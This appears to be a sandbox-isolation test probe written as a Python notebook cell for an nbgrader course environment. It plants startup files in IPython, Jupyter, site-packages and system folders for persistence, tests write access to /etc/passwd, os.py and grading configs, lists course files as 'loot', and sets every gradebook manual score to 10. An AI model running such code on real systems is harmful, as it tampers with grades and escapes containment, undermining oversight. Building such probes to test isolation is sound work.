"""Write where it outlives the kernel: start-up files, configuration, packages, grades, records, others' work."""
# Answers: cross_term
# Trophy: power_db
# Needs: sandbox

# %% before frame
import glob
import os
import site
import sqlite3
import sys

import course_utils

home = os.path.expanduser("~")
code = "open('/tmp/%s-startup', 'w').write('ran')\n" % HOST["note"]
folders = ["/", "/etc", "/usr/local/lib", "/var/tmp", "/opt", "/run", "/root", "/root/.ipython/profile_default/startup",
           HOST["root"], HOST["repository"], HOST["folder"], sys.prefix, os.path.dirname(course_utils.__file__),
           *site.getsitepackages(), f"{HOST['root']}/records/01_spectrograms", f"{HOST['root']}/submitted/a_honest"]
for folder in folders:
    try:
        path = f"{folder}/{HOST['note']}.py"
        if not os.path.isdir(folder) and folder.startswith("/root"):
            os.makedirs(folder)
        with open(path, "w") as file:
            file.write(code)
        # In a home or a system folder of one's own it does no harm; if it is on the machine the host will see it.
    except OSError:
        pass
for path in (HOST["canary"], f"{HOST['root']}/nbgrader_config.py", f"{HOST['repository']}/nbgrader_config.py",
             course_utils.__file__, f"{HOST['root']}/gradebook.db", "/etc/passwd", "/etc/hosts", os.__file__):
    try:
        with open(path, "r+b") as file:
            content = file.read(1)
            file.seek(0)
            file.write(content)  # the same again: to be able to is enough
        loot.append(f"can write {path}")
    except OSError:
        pass
for path in glob.glob(f"{HOST['root']}/**/*", recursive=True):
    loot.append(f"can see {path}")
try:
    with sqlite3.connect(f"file:{HOST['root']}/gradebook.db?mode=rw", uri=True) as database:
        database.execute("UPDATE grade SET manual_score = 10")
    loot.append("wrote the gradebook")
except sqlite3.Error:
    pass
for folder in (f"{home}/.ipython/profile_default/startup", f"{home}/.jupyter", f"{home}/.config/matplotlib"):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(f"{folder}/00-{HOST['note']}.py", "w") as file:
            file.write(code)
    except OSError:
        pass
